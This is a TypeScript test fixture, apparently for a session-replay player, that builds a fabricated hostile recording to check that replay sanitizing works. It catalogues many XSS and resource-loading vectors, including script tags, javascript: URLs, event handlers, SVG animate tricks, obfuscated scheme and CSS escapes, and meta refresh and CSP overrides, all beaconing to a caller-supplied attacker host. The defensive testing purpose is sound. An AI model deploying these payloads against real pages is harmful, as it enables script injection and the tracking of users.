type Node = Readonly<Record<string, unknown>>;

let lastId = 0;

const element = (
  tagName: string,
  attributes: object = {},
  childNodes: readonly Node[] = [],
): Node => ({
  type: 2,
  id: ++lastId,
  tagName,
  attributes,
  childNodes,
});

const textNode = (textContent: string): Node => ({ type: 3, id: ++lastId, textContent });

/** Says that it ran, to the page around the player and to the server of whoever sent it. */
const programOf = (evil: string): string =>
  `top.ran = parent.ran = window.ran = true; new Image().src = '${evil}/ran'`;

/** Elements that run, fetch, connect or navigate where a browser loads them. */
function hostileElements(evil: string): readonly Node[] {
  const program = programOf(evil);
  return [
    element('script', {}, [textNode(program)]),
    element('script', { src: `${evil}/script.js` }),
    element('img', { src: `${evil}/image.png`, srcset: `${evil}/large.png 2x`, onerror: program }),
    element('div', {
      style: `background: url(${evil}/inline.png)`,
      onclick: program,
      onanimationstart: program,
    }),
    element('a', { href: `javascript:${program}`, ping: `${evil}/ping` }, [textNode('press')]),
    element('a', { href: ` java\tscript:${program}`, autofocus: true, onfocus: program }),
    element('iframe', { src: `${evil}/frame` }),
    element('iframe', { src: `javascript:${program}` }),
    element('iframe', { srcdoc: `<script>${program}</script>` }),
    element('object', { data: `${evil}/object` }),
    element('embed', { src: `${evil}/embed` }),
    element('form', { action: `javascript:${program}` }, [
      element('button', { formaction: `javascript:${program}` }),
    ]),
    element('video', {
      src: `${evil}/video`,
      poster: `${evil}/poster.png`,
      autoplay: true,
      rr_mediaState: 'played',
    }),
    element('details', { open: true, ontoggle: program }),
    element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
    element('link', { rel: 'preconnect', href: evil }),
    element('link', { rel: 'dns-prefetch', href: evil }),
    element('link', { rel: 'modulepreload', href: `${evil}/module.js` }),
    element('link', { rel: 'prefetch', href: `${evil}/next` }),
    element('link', {
      _cssText: `@import url(${evil}/import.css); body { cursor: url(${evil}/cursor.png), auto }`,
    }),
    element('style', {}, [
      textNode(
        `@font-face { font-family: x; src: url(${evil}/font.woff2) } p { font-family: x; background: u\\72l(${evil}/escaped.png) }`,
      ),
    ]),
    {
      ...element('svg', { onload: program }, [
        { ...element('script', {}, [textNode(program)]), isSVG: true },
        {
          ...element('image', { href: `${evil}/svg.png`, 'xlink:href': `${evil}/svg.png` }),
          isSVG: true,
        },
        { ...element('use', { href: `${evil}/use.svg#a` }), isSVG: true },
        {
          ...element('animate', {
            attributeName: 'href',
            to: `javascript:${program}`,
            onbegin: program,
          }),
          isSVG: true,
        },
      ]),
      isSVG: true,
    },
    { ...element('x-hostile', { onclick: program }), isCustom: true },
    element('p', {}, [textNode('The hostile page')]),
  ];
}

/** A recording that a sender made up: it has the shape of one, and does harm in every way that a page can. */
export function hostileRecording(evil: string, fromMs = Date.now() - 20_000): readonly object[] {
  const program = programOf(evil);
  const changed = element('img');
  const changedFrame = element('iframe');
  const changedLink = element('a', { href: '/' }, [textNode('link')]);
  const changedRelation = element('link', { rel: 'nofollow' });
  const head = element('head', {}, [
    element('base', { href: `${evil}/`, target: '_top' }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    element('meta', {
      'http-equiv': 'Content-Security-Policy',
      content: "script-src 'unsafe-inline'",
    }),
  ]);
  const body = element('body', { onload: program, background: `${evil}/background.png` }, [
    ...hostileElements(evil),
    changed,
    changedFrame,
    changedLink,
    changedRelation,
  ]);
  const root: Node = {
    type: 0,
    id: ++lastId,
    childNodes: [
      { type: 1, id: ++lastId, name: 'html', publicId: '', systemId: '' },
      element('html', { manifest: `${evil}/manifest` }, [head, body]),
    ],
  };
  const adds = hostileElements(evil).map(node => ({ parentId: body.id, nextId: null, node }));
  const attributes = [
    { id: changed.id, attributes: { src: `${evil}/later.png`, onload: program } },
    {
      id: changedFrame.id,
      attributes: { src: `javascript:${program}`, srcdoc: `<script>${program}</script>` },
    },
    {
      id: changedLink.id,
      attributes: {
        href: `javascript:${program}`,
        style: { background: `url(${evil}/later.png)` },
      },
    },
    { id: changedRelation.id, attributes: { rel: 'preconnect', href: evil } },
  ];
  return [
    {
      type: 4,
      data: { href: `javascript:${program}`, width: 800, height: 600 },
      timestamp: fromMs,
    },
    { type: 2, data: { node: root, initialOffset: { left: 0, top: 0 } }, timestamp: fromMs + 10 },
    {
      type: 3,
      data: { source: 0, adds, attributes, texts: [], removes: [] },
      timestamp: fromMs + 500,
    },
    {
      type: 3,
      data: { source: 8, id: head.id, adds: [{ rule: `p { background: url(${evil}/rule.png) }` }] },
      timestamp: fromMs + 600,
    },
    {
      type: 3,
      data: { source: 10, family: 'y', fontSource: `url(${evil}/loaded.woff2)`, buffer: false },
      timestamp: fromMs + 700,
    },
    {
      type: 3,
      data: { source: 2, type: 2, id: changedLink.id, x: 10, y: 10 },
      timestamp: fromMs + 800,
    },
    { type: 3, data: { source: 2, type: 5, id: changedLink.id }, timestamp: fromMs + 900 },
    // What is no event of a page, as JSON allows it.
    { type: 2, data: null, timestamp: fromMs + 950 },
    { type: 2, data: { node: null }, timestamp: fromMs + 951 },
    { type: 3, data: null, timestamp: fromMs + 952 },
    {
      type: 3,
      data: { source: 0, adds: null, attributes: [null], removes: [{}] },
      timestamp: fromMs + 953,
    },
    { type: 4, data: { width: 'wide' }, timestamp: fromMs + 954 },
    { type: 6, data: {}, timestamp: fromMs + 955 },
    { type: 3, data: { source: 3, id: body.id, x: 0, y: 0 }, timestamp: fromMs + 3_000 },
  ];
}
